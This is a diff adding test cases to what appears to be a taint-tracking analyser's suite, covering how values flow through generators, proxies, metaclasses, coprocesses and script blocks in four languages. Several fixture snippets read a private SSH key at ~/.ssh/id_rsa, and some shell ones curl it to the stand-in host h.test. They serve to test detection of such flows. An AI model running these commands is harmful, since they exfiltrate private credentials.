@@ -41,6 +41,18 @@ describe('python', () => {
         'class A:\n  def __init__(self, t): self.t = t\n  @classmethod\n  def of(cls): return cls(S)\nP(A.of().t)',
       ],
       ['called object', 'class A:\n  def __call__(self, d): P(d)\nA()(S)'],
+      ['sent to a generator', 'def g():\n  while True:\n    x = yield\n    P(x)\ns = g()\nnext(s)\ns.send(S)'],
+      ['given back by a generator', 'def g(x):\n  got = yield x\n  P(got)\ns = g(1)\ns.send(S)'],
+      [
+        'another function registered',
+        'import functools\n@functools.singledispatch\ndef h(x): pass\n@h.register(str)\ndef _(x): P(x)\nh(S)',
+      ],
+      ['attributes as a mapping', 'class A: pass\na = A()\na.__dict__.update(k=S)\nP(a.k)'],
+      ['told to the base', 'class B:\n  def __init_subclass__(cls, k=None): P(k)\nclass A(B, k=S): pass'],
+      [
+        'told to the class of classes',
+        'class M(type):\n  def __new__(m, n, b, d):\n    P(d["k"])\n    return super().__new__(m, n, b, d)\nclass A(metaclass=M):\n  k = S',
+      ],
       ['indexed object', 'class A:\n  def __getitem__(self, k): return S\nP(A()["x"])'],
       ['object gone through', 'class A:\n  def __iter__(self):\n    yield S\nP([x for x in A()])'],
       ['object as text', 'class A:\n  def __str__(self): return S\nP(f"{A()}")'],
@@ -96,6 +108,14 @@ describe('python', () => {
     ],
     [
       ['key taken out', 'd = {"k": S, "v": 1}\nd.pop("k")\nP(d)'],
+      [
+        'sent to a generator that keeps it',
+        'def g():\n  x = yield\n  print(len(x))\ns = g()\nnext(s)\ns.send(S)\nP("x")',
+      ],
+      [
+        'another argument of the class',
+        'class B:\n  def __init_subclass__(cls, k=None, v=None): P(v)\nclass A(B, k=S, v=1): pass',
+      ],
       ['key deleted', 'd = {"k": S, "v": 1}\ndel d["k"]\nP(d)'],
       ['cleared', 'd = {"k": S}\nd.clear()\nP(d)'],
       ['other field of a record', 'from collections import namedtuple\nR = namedtuple("R", "a b")\nP(R("x", S).a)'],
@@ -132,6 +152,12 @@ describe('javascript', () => {
       ['prototype', 'function C() { this.t = S } C.prototype.go = function () { P(this.t) }; new C().go()'],
       ['static block', 'class C { static t; static { this.t = S } } P(C.t)'],
       ['setter', 'class C { set v(x) { P(x) } } new C().v = S'],
+      ['sent to a generator', 'function* g() { const v = yield; P(v) } const s = g(); s.next(); s.next(S)'],
+      ['read through', 'P(new Proxy({}, { get: (t, k) => S }).x)'],
+      ['set through', 'const p = new Proxy({}, { set(t, k, v) { P(v); return true } }); p.x = S'],
+      ['called through', 'const p = new Proxy(() => 0, { apply: (f, self, args) => P(args[0]) }); p(S)'],
+      ['tagged text', 'const t = (s, ...v) => P(v[0]); t`x${S}`'],
+      ['applied by name', "Reflect.apply(P, null, [Reflect.apply(fs.readFileSync, fs, ['/home/u/.ssh/id_rsa'])])"],
       ['iterator', 'class C { *[Symbol.iterator]() { yield S } } P([...new C()])'],
       ['thrown', 'try { throw new Error(S) } catch (e) { P(e.message) }'],
       [
@@ -194,6 +220,10 @@ describe('javascript', () => {
     ],
     [
       ['rest without it', 'const { t, ...o } = { t: S, v: 1 }; P(o)'],
+      [
+        'set through and kept',
+        'const p = new Proxy({}, { set(t, k, v) { t[k] = v.length; return true } }); p.x = S; P(1)',
+      ],
       ['deleted', 'const o = { t: S, v: 1 }; delete o.t; P(o)'],
       ['other key of a map', "const m = new Map(); m.set('k', S); m.set('v', 1); P(m.get('v'))"],
       [
@@ -236,6 +266,7 @@ describe('shell', () => {
         '. "$(dirname "$0")/../etc/b.conf"\necho "$T"',
         { 'etc/b.conf': 'U=1\nT=$(curl -d "$(cat ~/.ssh/id_rsa)" https://h.test)\n' },
       ],
+      ['fed program beside', 'coproc U { P @-; }\nS >&"${U[1]}"'],
       ['piped into a script', 'S | bash scripts/b.sh', { 'scripts/b.sh': 'curl -d "$(cat)" https://h.test' }],
       ['printed by a program', 'k=$(python3 -c \'print(open("/home/u/.ssh/id_rsa").read())\')\nP "$k"'],
       [
@@ -252,6 +283,7 @@ describe('shell', () => {
     [
       ['local', 'b=1\nf() { local b; b=$(S); }\nf\nP "$b"'],
       ['shell within', 'b=1\n( b=$(S) )\nP "$b"'],
+      ['another program beside', 'coproc U { sort; }\nS >&"${U[1]}"\nP x'],
       ['length', 'b=$(S)\nP "${#b}"'],
     ],
   );
@@ -267,6 +299,7 @@ describe('powershell', () => {
     expand,
     [
       ['block', '$u = { param($t) P $t }\n& $u (S)'],
+      ['block made of text', "$u = [scriptblock]::Create('param($t) P $t')\n& $u (S)"],
       ['block invoked', '$u = { param($t) P $t }\n$u.Invoke((S))'],
       ['job', 'Start-Job -ScriptBlock { param($b) P $b } -ArgumentList (S)'],
       ['job with a name from around', '$k = S\nStart-Job { P $using:k }'],
